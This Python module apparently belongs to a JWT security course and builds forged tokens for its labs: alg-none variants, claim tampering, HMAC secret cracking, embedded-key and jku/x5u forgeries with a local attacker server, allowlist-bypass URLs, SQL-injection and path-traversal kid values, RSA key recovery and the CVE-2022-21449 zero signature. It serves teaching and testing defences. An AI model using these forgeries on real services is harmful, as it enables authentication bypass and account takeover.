"""Forgery builders for the course's attacks part: each function makes one kind of hostile token.

Why a module and not notebook cells: the attacks notebooks, the tests and the "Forge, then fix" lab all
need the same forgeries, and a forgery that is tested once (`tests/test_attacks.py`) against both a
deliberately vulnerable verifier (`jwtlab.naive`) and `verify_token` stays honest in every place.

Everything here is offline or talks to 127.0.0.1 only. The tokens are made with the course's demo keys
and the course clock, so the forgeries are the same on every machine. HMAC signing uses the standard
library rather than PyJWT on purpose: PyJWT refuses PEM text and warns about short secrets as HMAC
keys — exactly the defences these attacks show other libraries lacking.
"""

from __future__ import annotations

import base64
import contextlib
import datetime as dt
import hashlib
import hmac
import json
import math
import posixpath
import textwrap
from collections.abc import Iterable, Iterator
from functools import cache
from typing import Any
from urllib.parse import urlsplit

import jwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ed25519, rsa
from cryptography.x509.oid import NameOID

from . import b64, clock, keys
from .verify import TokenRejected

__all__ = [
    "ALG_NONE_VARIANTS",
    "PATH_TRAVERSAL_KID",
    "SQL_INJECTION_KEY",
    "SQL_INJECTION_KID",
    "admin_claims",
    "attacker_app",
    "crack_hmac",
    "forge_alg_none",
    "forge_duplicate_claims",
    "forge_embedded_jwk",
    "forge_hs_with_key",
    "forge_jku",
    "forge_psychic_signature",
    "forge_x5c",
    "forge_x5u",
    "legit_token",
    "prefix_allowlist_bypasses",
    "public_key_forms",
    "reach",
    "recover_rsa_public_key",
    "recovery_size_bits",
    "rejected_with",
    "self_signed_certificate",
    "small_exponent_demo_key",
    "split",
    "strip_signature",
    "tamper",
]

#: `alg: none` spelled the ways verifiers with a case-sensitive blocklist miss (checklist B.1).
ALG_NONE_VARIANTS = ("none", "None", "NONE", "nOnE")
#: Enough `../` to climb from any key directory to `/`, then into an empty file everyone knows.
PATH_TRAVERSAL_KID = "../../../../../../../../../../dev/null"
#: The key the SQL injection below makes a naive lookup return (`UNION SELECT` a constant).
SQL_INJECTION_KEY = b"attacker-chosen-key"
SQL_INJECTION_KID = "no-such-key' UNION SELECT 'attacker-chosen-key' -- "


def admin_claims(**extra: Any) -> dict[str, Any]:
    """The goal of every attack: claims that make the orders service treat the caller as its admin."""
    return clock.claims("admin", role="admin", **extra)


def legit_token(claims: dict[str, Any] | None = None, key: keys.DemoKey | None = None, **header: Any) -> str:
    """A genuine token from the demo identity provider (RS256, demo RSA key 0 unless told otherwise)."""
    key = key or keys.rsa_key(0)
    return jwt.encode(claims or clock.claims("alice", role="user"), key.signing_key, algorithm=key.alg,
                      headers=key.headers(**header))


def split(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """(header, claims, signature segment) of a compact token, decoded without any checks — for display."""
    header_b64, payload_b64, signature_b64 = token.split(".")
    return json.loads(b64.decode(header_b64)), json.loads(b64.decode(payload_b64)), signature_b64


def _segments(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return f"{b64.encode_json(header)}.{b64.encode_json(claims)}"


def _hmac_sign(signing_input: str, key: bytes, alg: str = "HS256") -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return b64.encode(hmac.new(key, signing_input.encode("ascii"), digest).digest())


# --- Apprentice -----------------------------------------------------------------------------------


def tamper(token: str, **changes: Any) -> str:
    """Change claims but keep the original header and signature (checklist B.8: claim tampering)."""
    header_b64, _, signature_b64 = token.split(".")
    _, claims, _ = split(token)
    return f"{header_b64}.{b64.encode_json({**claims, **changes})}.{signature_b64}"


def strip_signature(token: str) -> str:
    """Keep `header.payload.` and drop the signature: what a verifier that never checks it accepts."""
    return token.rsplit(".", 1)[0] + "."


def forge_alg_none(claims: dict[str, Any], variant: str = "none", *, signature: str = "", **header: Any) -> str:
    """An unsigned token: `alg` set to `variant` (see ALG_NONE_VARIANTS), the signature segment `signature`.

    Some verifiers only skip the check when the signature segment is empty, others when `alg` is
    `none` — so the attacker may also keep an old signature in place (`signature=...`).
    """
    return f"{_segments({'alg': variant, 'typ': 'JWT', **header}, claims)}.{signature}"


def forge_hs_with_key(claims: dict[str, Any], key_bytes: bytes, *, alg: str = "HS256", **header: Any) -> str:
    """A token MACed with any bytes at all: a cracked secret, an empty key, or a public key's text."""
    signing_input = _segments({"alg": alg, "typ": "JWT", **header}, claims)
    return f"{signing_input}.{_hmac_sign(signing_input, key_bytes, alg)}"


def crack_hmac(token: str, wordlist: Iterable[str]) -> str | None:
    """Offline dictionary attack on an HS256/384/512 token: the word whose HMAC matches, else None.

    One HMAC per word and no network: the attacker needs a single token, and nothing on the server
    side can notice or rate-limit the guessing. Bounded by the length of the wordlist.
    """
    header, _, signature_b64 = split(token)
    alg = header.get("alg")
    if alg not in ("HS256", "HS384", "HS512"):
        raise ValueError(f"only HMAC tokens can be cracked this way, not {alg!r}")
    signing_input = token.rsplit(".", 1)[0]
    for word in wordlist:
        if hmac.compare_digest(_hmac_sign(signing_input, word.encode("utf-8"), alg), signature_b64):
            return word
    return None


# --- Practitioner ---------------------------------------------------------------------------------


def _sign_with(key: keys.DemoKey, header: dict[str, Any], claims: dict[str, Any]) -> str:
    return jwt.encode(claims, key.signing_key, algorithm=key.alg, headers=header)


def forge_embedded_jwk(claims: dict[str, Any], attacker_key: keys.DemoKey) -> str:
    """Sign with the attacker's own key and put its public JWK in the header (checklist B.6)."""
    jwk = {k: v for k, v in attacker_key.public_jwk().items() if k not in ("alg", "use")}
    return _sign_with(attacker_key, {"kid": attacker_key.kid, "jwk": jwk}, claims)


def forge_x5c(claims: dict[str, Any], attacker_key: keys.DemoKey) -> str:
    """Sign with the attacker's key and embed a self-signed certificate for it in `x5c` (checklist B.6).

    `x5c` holds standard base64 (not base64url) DER certificates, RFC 7515 §4.1.6.
    """
    der = x509.load_pem_x509_certificate(self_signed_certificate(attacker_key)).public_bytes(serialization.Encoding.DER)
    return _sign_with(attacker_key, {"x5c": [base64.b64encode(der).decode("ascii")]}, claims)


def forge_jku(claims: dict[str, Any], attacker_key: keys.DemoKey, url: str) -> str:
    """Sign with the attacker's key and point `jku` at the attacker's JWK Set (checklist B.5)."""
    return _sign_with(attacker_key, {"kid": attacker_key.kid, "jku": url}, claims)


def forge_x5u(claims: dict[str, Any], attacker_key: keys.DemoKey, url: str) -> str:
    """Sign with the attacker's key and point `x5u` at the attacker's self-signed certificate."""
    return _sign_with(attacker_key, {"x5u": url}, claims)


def self_signed_certificate(key: keys.DemoKey, common_name: str = "idp.course.example") -> bytes:
    """A self-signed X.509 certificate (PEM) for `key`, claiming to be `common_name`.

    Anyone can make one for any name; only a chain to a trusted root means anything. Deterministic:
    fixed serial and validity from the course clock, and RSA PKCS#1 v1.5 signatures do not vary.
    """
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    not_before = dt.datetime.fromtimestamp(clock.now() - 86400, dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key)
        .serial_number(0x5E1F)
        .not_valid_before(not_before)
        .not_valid_after(not_before + dt.timedelta(days=365))
        .sign(key.private_key, hashes.SHA256())
    )
    return cert.public_bytes(serialization.Encoding.PEM)


def attacker_app(attacker_key: keys.DemoKey) -> Any:
    """The attacker's web server: publishes the attacker's JWKS and a self-signed certificate.

    Served on 127.0.0.1 with `jwtlab.services.serve`; it records each request path in
    `app.state.fetched`, so a notebook can show that the victim's verifier really came to fetch.
    """
    from fastapi import FastAPI
    from fastapi.responses import JSONResponse, Response

    app = FastAPI(title="attacker")
    app.state.fetched = []
    jwk_set = keys.jwks(attacker_key)
    certificate = self_signed_certificate(attacker_key)

    @app.get("/jwks.json")
    def jwks() -> JSONResponse:
        app.state.fetched.append("/jwks.json")
        return JSONResponse(jwk_set)

    @app.get("/cert.pem")
    def cert() -> Response:
        app.state.fetched.append("/cert.pem")
        return Response(certificate, media_type="application/x-pem-file")

    return app


def prefix_allowlist_bypasses(trusted_prefix: str, attacker_host: str = "attacker.example") -> dict[str, str]:
    """URLs that start with `trusted_prefix` yet make a client contact `attacker_host` (checklist B.5).

    Strings only — nothing here is fetched. `reach(url)` shows where a client would really go.
    """
    base = trusted_prefix.rstrip("/")
    return {
        "subdomain": f"{base}.{attacker_host}/jwks.json",
        "userinfo (@)": f"{base}@{attacker_host}/jwks.json",
        "path traversal to an open redirect": f"{base}/../redirect?to=https://{attacker_host}/jwks.json",
    }


def reach(url: str) -> str:
    """Where an HTTP client really goes for `url`: host plus normalised path (what `startswith` ignores)."""
    parts = urlsplit(url)
    return f"{parts.hostname}{posixpath.normpath(parts.path) if parts.path else ''}"


def forge_duplicate_claims(pairs: list[tuple[str, Any]], key: keys.DemoKey, *, typ: str = "JWT") -> str:
    """A correctly signed token whose claims JSON repeats a name, e.g. two `sub` members (checklist B.13).

    `pairs` are written in order, duplicates kept — which `json.dumps` of a dict can never produce. It
    stands for an issuer that builds its JSON from strings (see `jwtlab.naive.issue_with_string_template`).
    """
    body = "{" + ",".join(f"{json.dumps(k)}:{json.dumps(v)}" for k, v in pairs) + "}"
    header_b64 = b64.encode_json({"alg": key.alg, "typ": typ, "kid": key.kid})
    signing_input = f"{header_b64}.{b64.encode(body.encode('utf-8'))}"
    algorithm = jwt.algorithms.get_default_algorithms()[key.alg]
    return f"{signing_input}.{b64.encode(algorithm.sign(signing_input.encode('ascii'), key.signing_key))}"


# --- Expert ---------------------------------------------------------------------------------------


def public_key_forms(public_key: Any) -> dict[str, bytes]:
    """The byte spellings of one public key that a confused verifier might use as its HMAC secret.

    Algorithm confusion only works if the attacker MACs with exactly the bytes the server holds, so
    tools try every common form (checklist B.2); each is public, so each is a "secret" anyone knows.
    """
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    spki_pem = public_key.public_bytes(serialization.Encoding.PEM, spki)
    forms = {
        "PEM (SubjectPublicKeyInfo)": spki_pem,
        "PEM without the final newline": spki_pem.rstrip(b"\n"),
        "DER": public_key.public_bytes(serialization.Encoding.DER, spki),
        "OpenSSH line": public_key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH),
        "JWK JSON": json.dumps(keys.public_jwk_of(public_key), separators=(",", ":"), sort_keys=True).encode(),
    }
    if isinstance(public_key, rsa.RSAPublicKey):
        forms["PEM (PKCS#1)"] = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
    if isinstance(public_key, ed25519.Ed25519PublicKey):
        forms["raw Ed25519 bytes"] = public_key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    return forms


#: DER DigestInfo prefixes of EMSA-PKCS1-v1_5 (RFC 8017 §9.2), per JWS algorithm.
_DIGEST_INFO = {
    "RS256": (hashlib.sha256, bytes.fromhex("3031300d060960864801650304020105000420")),
    "RS384": (hashlib.sha384, bytes.fromhex("3041300d060960864801650304020205000430")),
    "RS512": (hashlib.sha512, bytes.fromhex("3051300d060960864801650304020305000440")),
}
#: Above this size of s**e a pure-Python gcd takes more than a few seconds (it is quadratic).
DEFAULT_MAX_RECOVERY_BITS = 1 << 20


def _pkcs1_v15_encoded(token: str, length: int) -> int:
    header, _, _ = split(token)
    alg = header.get("alg")
    if alg not in _DIGEST_INFO:
        raise ValueError(f"key recovery needs RSASSA-PKCS1-v1_5 tokens (RS256/384/512), not {alg!r}")
    digest, prefix = _DIGEST_INFO[alg]
    t = prefix + digest(token.rsplit(".", 1)[0].encode("ascii")).digest()
    return int.from_bytes(b"\x00\x01" + b"\xff" * (length - len(t) - 3) + b"\x00" + t, "big")


def recovery_size_bits(modulus_bits: int, e: int) -> int:
    """How many bits s**e has: the size of the numbers whose gcd reveals the modulus."""
    return modulus_bits * e


def recover_rsa_public_key(token1: str, token2: str, *, e: int = 65537,
                           max_bits: int = DEFAULT_MAX_RECOVERY_BITS) -> rsa.RSAPublicKey:
    """Recover an issuer's RSA public key from two RS256 tokens it signed ("no exposed key", checklist B.2).

    For each token s**e ≡ m (mod n), where m is the PKCS#1 v1.5 encoding of the token's digest, so n
    divides both s1**e − m1 and s2**e − m2; their gcd is n times a small factor, which is divided out.

    The cost is the size of s**e: modulus bits × e. For e = 3 that is a few thousand bits and takes
    milliseconds. For e = 65537 and a 2048-bit key it is 134 million bits: pure Python needs over a
    minute for each power and hours for the gcd, attack tools built on GMP take minutes. Rather than
    hang, this function refuses numbers larger than `max_bits` — hiding a public key still buys only time.
    """
    _, _, sig1 = split(token1)
    _, _, sig2 = split(token2)
    s1, s2 = b64.decode(sig1), b64.decode(sig2)
    if len(s1) != len(s2):
        raise ValueError("the two signatures have different lengths: not the same key")
    size = recovery_size_bits(8 * len(s1), e)
    if size > max_bits:
        raise ValueError(
            f"s**e would have {size:,} bits (modulus {8 * len(s1)} bits, e = {e}); a pure-Python gcd of such "
            f"numbers takes hours. Raise max_bits to try anyway."
        )
    m1, m2 = _pkcs1_v15_encoded(token1, len(s1)), _pkcs1_v15_encoded(token2, len(s2))
    n = math.gcd(int.from_bytes(s1, "big") ** e - m1, int.from_bytes(s2, "big") ** e - m2)
    for small in range(2, 1 << 16):  # strip the small common factor, if any (bounded)
        while n % small == 0 and n.bit_length() > 8 * len(s1):
            n //= small
        if n.bit_length() <= 8 * len(s1):
            break
    if n.bit_length() != 8 * len(s1) or pow(int.from_bytes(s1, "big"), e, n) != m1:
        raise ValueError("no common modulus found: the tokens were not signed by one RSA key with this e")
    return rsa.RSAPublicNumbers(e, n).public_key()


def _seeded_prime(label: str, bits: int, e: int) -> int:
    """A deterministic prime p with gcd(e, p − 1) = 1, from SHA-256 of a published label (bounded search)."""
    small_primes = [p for p in range(3, 2000) if all(p % q for q in range(2, int(p**0.5) + 1))]
    for counter in range(100_000):
        stream = b"".join(hashlib.sha256(f"{label}/{counter}/{i}".encode()).digest() for i in range(bits // 256 + 1))
        candidate = int.from_bytes(stream, "big") >> (len(stream) * 8 - bits) | (3 << (bits - 2)) | 1
        if any(candidate % p == 0 for p in small_primes) or (candidate - 1) % e == 0:
            continue
        d, r = candidate - 1, 0
        while d % 2 == 0:
            d, r = d // 2, r + 1
        for a in small_primes[:24]:  # Miller-Rabin with fixed bases: fine for a demo key, not for real keys
            x = pow(a, d, candidate)
            if x in (1, candidate - 1):
                continue
            for _ in range(r - 1):
                x = pow(x, 2, candidate)
                if x == candidate - 1:
                    break
            else:
                break
        else:
            return candidate
    raise RuntimeError("no prime found")  # pragma: no cover - the search succeeds within a few hundred tries


@cache
def small_exponent_demo_key() -> keys.DemoKey:
    """A 2048-bit RSA DEMO KEY with the legacy public exponent e = 3, derived from a published label.

    Used to run the "no exposed key" recovery in seconds (see `recover_rsa_public_key`). Real keys use
    e = 65537; the algorithm is the same, only the numbers are 20,000 times longer.
    """
    e = 3
    p = _seeded_prime("jwt-in-microservices demo key v1: rsa-e3/p", 1024, e)
    q = _seeded_prime("jwt-in-microservices demo key v1: rsa-e3/q", 1024, e)
    d = pow(e, -1, math.lcm(p - 1, q - 1))
    numbers = rsa.RSAPrivateNumbers(
        p, q, d, d % (p - 1), d % (q - 1), pow(q, -1, p), rsa.RSAPublicNumbers(e, p * q)
    )
    private = numbers.private_key()
    kid = keys.thumbprint(keys.public_jwk_of(private.public_key()))
    return keys.DemoKey("rsa-e3", "RS256", private, kid)


def forge_psychic_signature(claims: dict[str, Any], kid: str | None = None) -> str:
    """An ES256 token whose signature is r = s = 0: 64 zero bytes (CVE-2022-21449, checklist B.7)."""
    header = {"alg": "ES256", "typ": "JWT", **({"kid": kid} if kid else {})}
    return f"{_segments(header, claims)}.{b64.encode(bytes(64))}"


# --- Checking outcomes ----------------------------------------------------------------------------


@contextlib.contextmanager
def rejected_with(reason: str, width: int = 78) -> Iterator[None]:
    """Assert that the block raises `TokenRejected` with exactly `reason`; print it.

        with rejected_with("alg_not_allowed"):
            verify_token(forged, ...)

    Any other outcome — acceptance, another reason, another exception — fails
    loudly, so a notebook that uses it fails its check the day the defence
    regresses. The printed line is wrapped at `width` columns, so it reads on
    a phone as well as in a terminal.
    """
    try:
        yield
    except TokenRejected as exc:
        if exc.reason != reason:
            got = f"rejected with {exc.reason!r}, expected {reason!r}"
            raise AssertionError(f"{got}: {exc.message}") from None
        line = f"rejected: {exc.reason} — {exc.message}"
        wrapped = textwrap.wrap(
            line, width, subsequent_indent="    ", break_on_hyphens=False
        )
        print("\n".join(wrapped))
    else:
        expected = f"expected a rejection with {reason!r}"
        raise AssertionError(f"the token was accepted; {expected}")
